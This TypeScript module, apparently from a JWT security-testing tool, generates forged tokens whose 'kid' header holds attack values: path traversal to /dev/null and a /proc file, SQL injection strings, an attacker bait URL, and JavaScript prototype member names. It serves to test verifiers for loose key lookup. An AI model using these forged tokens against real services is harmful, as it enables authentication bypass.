/** Tokens whose `kid` makes a careless lookup return a key that the attacker knows. */

import type { Forge } from '../forge.ts';
import { type AttackCase, caseOf } from './attack-case.ts';
import { BAIT_PATHS } from './header-key.ts';

const add = caseOf('kid', { level: 'hole', reference: 'RFC 8725 §3.10' });

/** The genuine key signs these: a target that accepts them reads `kid` loosely. */
const LOOSE = { level: 'note', reference: 'RFC 7515 §4.1.4' } as const;

/** Files that are empty, as a path and as a path out of a directory. */
const EMPTY_FILES = ['/dev/null', '../../../../../../dev/null', 'NUL'];

/** Members that every object has, and what they are as a string. */
const MEMBERS: ReadonlyArray<readonly [kid: string, secret: string]> = [
  ['__proto__', '[object Object]'],
  ['constructor', String(Object)],
  ['toString', String(Object.prototype.toString)],
  ['valueOf', String(Object.prototype.valueOf)],
  ['hasOwnProperty', String(Object.prototype.hasOwnProperty)],
];

export function kidCases(forge: Forge): AttackCase[] {
  const url = () => `${forge.baitUrl}${BAIT_PATHS.kid}`;
  return [
    ...EMPTY_FILES.map((kid, index) =>
      add(`empty-file-${index + 1}`, `"kid" is ${JSON.stringify(kid)}, the secret is empty`, () => {
        return forge.hmac(256, '', { kid });
      }),
    ),
    add('known-file', '"kid" is a file of Linux that contains "2"', () => {
      return forge.hmac(256, '2\n', {
        kid: '../../../../../../proc/sys/kernel/randomize_va_space',
      });
    }),
    add('sql', '"kid" is SQL that selects the secret "secret"', () => {
      return forge.hmac(256, 'secret', { kid: "x' UNION SELECT 'secret' -- " });
    }),
    add('sql-or', '"kid" is SQL that selects every key', () => {
      return forge.byAttacker({ kid: "x' OR '1'='1" });
    }),
    add(
      'url',
      '"kid" is a URL of the attacker',
      () => {
        return forge.byAttacker({ kid: url() });
      },
      { bait: BAIT_PATHS.kid },
    ),
    add('secret-itself', 'the secret is the "kid"', () =>
      forge.hmac(256, 'attacker', { kid: 'attacker' }),
    ),
    ...MEMBERS.map(([kid, secret]) =>
      add(`member-${kid.replaceAll('_', '').toLowerCase()}`, `"kid" is "${kid}"`, () => {
        return forge.hmac(256, secret, { kid });
      }),
    ),
    add('member-empty', '"kid" is "__proto__", the secret is empty', () => {
      return forge.hmac(256, '', { kid: '__proto__' });
    }),
    add(
      'list',
      '"kid" is an array',
      () => forge.signed({ kid: [forge.header()['kid'] ?? 'main'] }),
      LOOSE,
    ),
    add('long', '"kid" has 8000 characters', () => forge.signed({ kid: 'k'.repeat(8000) }), LOOSE),
    add('line-feed', '"kid" has a line feed', () => forge.signed({ kid: 'a\nb' }), LOOSE),
  ];
}
